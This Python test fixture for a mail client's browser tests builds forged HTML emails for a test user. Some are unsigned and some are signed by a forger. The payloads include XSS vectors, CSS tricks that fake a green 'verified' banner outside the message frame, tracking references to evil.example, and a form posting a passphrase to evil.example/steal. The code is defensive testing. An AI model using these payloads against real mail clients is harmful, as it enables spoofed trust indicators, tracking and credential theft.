"""Forged mail in Alice's inbox, to be looked at in a browser: every case of ``tests/spoof`` that
is meant for her, and HTML that wants to get out of its frame or into the line above it."""

import json
from collections.abc import Iterator
from datetime import timedelta
from functools import partial
from typing import Final

from siegel.base.address import EmailAddress
from siegel.store.queries import mail_items
from tests.browser.mail_scenery import Filed, filed
from tests.browser.scenery import Names
from tests.flows.office import Office
from tests.spoof import making
from tests.spoof.case import ATTACKER, READER, VERIFIED, Case, Family
from tests.spoof.cases import CASES

_OUT: Final = "https://evil.example"
_GREEN: Final = (
    "<details class='status is-good' open><summary><span><b>Vertraulich.</b> Nur Sie und Hans Huber"
    " können das lesen.</span></summary></details><div class='mark is-full'></div>"
)
_RUNS: Final = "window.__xss=1;parent.__xss=1;top.__xss=1"

SHAPES: Final = {
    "a copied green line above everything": (
        f"<div style='position:fixed;top:0;left:0;right:0;z-index:2147483647;background:#dff3e4'>"
        f"{_GREEN}</div>"
    ),
    "a negative margin": f"<div style='margin-top:-5000px;margin-left:-5000px'>{_GREEN}</div>",
    "a transform out of the frame": f"<div style='transform:translateY(-900px)'>{_GREEN}</div>",
    "an absolute place": f"<div style='position:absolute;top:-400px;left:-400px'>{_GREEN}</div>",
    "a page within the page": (
        f"<style>html,body{{margin:-300px;overflow:visible!important;height:99999px}}"
        f".status,.msg-head{{display:none}}</style>{_GREEN}"
    ),
    "the classes and names of our pages": (
        f"<div class='msg-card'><div class='msg-head'><h2 class='who' id='who1'>Hans Huber</h2>"
        f"</div>{_GREEN}</div><link rel=stylesheet href=/static/conversation.css>"
    ),
    "scripts": (
        f"<script>{_RUNS}</script><img src=x onerror='{_RUNS}'><svg onload='{_RUNS}'></svg>"
        f"<body onload='{_RUNS}'><a href='javascript:{_RUNS}'>x</a><details ontoggle='{_RUNS}'"
        f" open></details><iframe srcdoc='&lt;script&gt;{_RUNS}&lt;/script&gt;'></iframe>"
    ),
    "references to the outside": (
        f"<img src={_OUT}/a.png><img srcset='{_OUT}/b.png 2x'>"
        f"<link rel=stylesheet href={_OUT}/c.css><link rel=preconnect href={_OUT}>"
        f"<link rel=dns-prefetch href=//evil.example>"
        f"<style>@import '{_OUT}/d.css';@font-face{{font-family:x;src:url({_OUT}/e.woff)}}"
        f"p{{background:url({_OUT}/f.png);font-family:x}}</style><p>x</p>"
        f"<div style='background-image:url({_OUT}/g.png);list-style:url({_OUT}/h.png)'>x</div>"
        f"<video src={_OUT}/i.mp4 poster={_OUT}/j.png autoplay></video>"
        f"<audio src={_OUT}/k.mp3 autoplay></audio><object data={_OUT}/l></object>"
        f"<embed src={_OUT}/m><iframe src={_OUT}/n></iframe>"
        f"<input type=image src={_OUT}/o.png><table background={_OUT}/p.png><tr><td>x</table>"
        f"<svg><image href='{_OUT}/q.png'/><use href='{_OUT}/r.svg#x'/></svg>"
        f"<meta http-equiv=refresh content='0;url={_OUT}/s'><base href={_OUT}/t/><img src=u.png>"
    ),
    "a form that asks for the passphrase": (
        f"<form action={_OUT}/steal target=_top><input type=password name=passphrase autofocus>"
        f"<button>Entsperren</button></form><base target=_top><a href={_OUT}>Hier</a>"
    ),
}
"""What is in the HTML, by what it tries."""


def _shaped() -> Iterator[Case]:
    """Each shape from nobody, and from somebody who signs for herself and pretends to be more."""
    for name, code in SHAPES.items():
        entity = making.html(code.encode()).replace(b"us-ascii", b"utf-8")
        yield Case(
            family=Family.DISPLAY,
            name=f"{name}, unsigned",
            make=making.mailed(partial(bytes, entity)),
        )
        yield Case(
            family=Family.DISPLAY,
            name=f"{name}, signed by the forger",
            make=making.mailed(partial(making.by_attacker, entity), sender=ATTACKER.address),
            summary=VERIFIED,
            about=ATTACKER.address,
        )


FORGERIES: Final = (*(case for case in CASES if case.reader == "alice"), *_shaped())


def furnish_forgeries(office: Office) -> Names:
    """Name ``forgeries``: [conversation, item] of each of ``FORGERIES``, as JSON."""
    account = EmailAddress.parse(READER.address)
    places = []
    for number, case in enumerate(FORGERIES):
        office.at += timedelta(seconds=1)
        raw = case.make().replace(b"<1@forged.example>", b"<f%d@forged.example>" % number, 1)
        item = mail_items.get(filed(office, Filed(case.name, raw), account))
        places.append([item.conversation, item.id])
    return {"forgeries": json.dumps(places)}
